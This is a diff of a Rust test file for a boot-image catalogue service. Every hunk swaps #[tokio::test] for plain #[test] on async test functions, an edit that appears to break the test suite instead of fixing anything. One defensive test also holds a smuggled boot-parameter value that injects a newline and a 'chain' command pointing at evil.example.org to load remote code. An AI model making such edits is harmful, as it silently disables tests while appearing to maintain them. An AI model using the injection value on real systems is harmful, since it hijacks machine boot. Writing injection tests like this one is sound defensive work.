@@ -56,7 +56,7 @@ async fn version(api: &Server, place: &str) -> String {
     found["version"].as_str().unwrap().to_owned()
 }
 
-#[tokio::test]
+#[test]
 async fn an_image_is_found_by_name_version_and_architecture() {
     let api = Server::own();
     let one = set(&api, "1.2.3", &["x86_64", "aarch64"]).await;
@@ -128,7 +128,7 @@ async fn an_image_is_found_by_name_version_and_architecture() {
     assert_eq!(api.read(CATALOGUE).await.as_array().unwrap().len(), 1);
 }
 
-#[tokio::test]
+#[test]
 async fn files_have_addresses_that_stay() {
     let api = Server::own();
     set(&api, "1", &["x86_64"]).await;
@@ -175,7 +175,7 @@ async fn files_have_addresses_that_stay() {
     assert_ne!(forged.send().await.unwrap().status(), 200);
 }
 
-#[tokio::test]
+#[test]
 async fn boot_parameters_are_no_commands() {
     let api = Server::own();
     let hostile = image(&api, "x86_64", "quiet\nchain http://evil.example.org/", json!({})).await;
@@ -191,7 +191,7 @@ async fn boot_parameters_are_no_commands() {
     );
 }
 
-#[tokio::test]
+#[test]
 async fn channels_are_promoted_and_rolled_back() {
     let api = Server::own();
     for version in ["1", "2", "3"] {
@@ -246,7 +246,7 @@ async fn channels_are_promoted_and_rolled_back() {
     promote(&api, "stable", json!({"version": "a/b"})).await.errors();
 }
 
-#[tokio::test]
+#[test]
 async fn only_a_complete_set_is_promoted() {
     let api = Server::own();
     let made = set(&api, "1", &["x86_64"]).await;
@@ -266,7 +266,7 @@ async fn only_a_complete_set_is_promoted() {
     assert_eq!(api.read(CHANNELS).await, json!([]));
 }
 
-#[tokio::test]
+#[test]
 async fn one_of_many_promotions_wins() {
     let api = Server::own();
     for version in ["1", "2", "3", "4"] {
@@ -286,7 +286,7 @@ async fn one_of_many_promotions_wins() {
     );
 }
 
-#[tokio::test]
+#[test]
 async fn other_services_read_the_catalogue_in_their_own_form() {
     let api = Server::own();
     set(&api, "4.12.3", &["x86_64", "aarch64"]).await;
@@ -322,7 +322,7 @@ async fn other_services_read_the_catalogue_in_their_own_form() {
 }
 
 /// Firmware has no token: the setting lets it read the catalogue, and nothing else.
-#[tokio::test]
+#[test]
 async fn the_catalogue_is_public_only_if_a_setting_says_so() {
     let required = ("KILN__AUTH__MODE", "required");
     let closed = Server::with(&[required]);
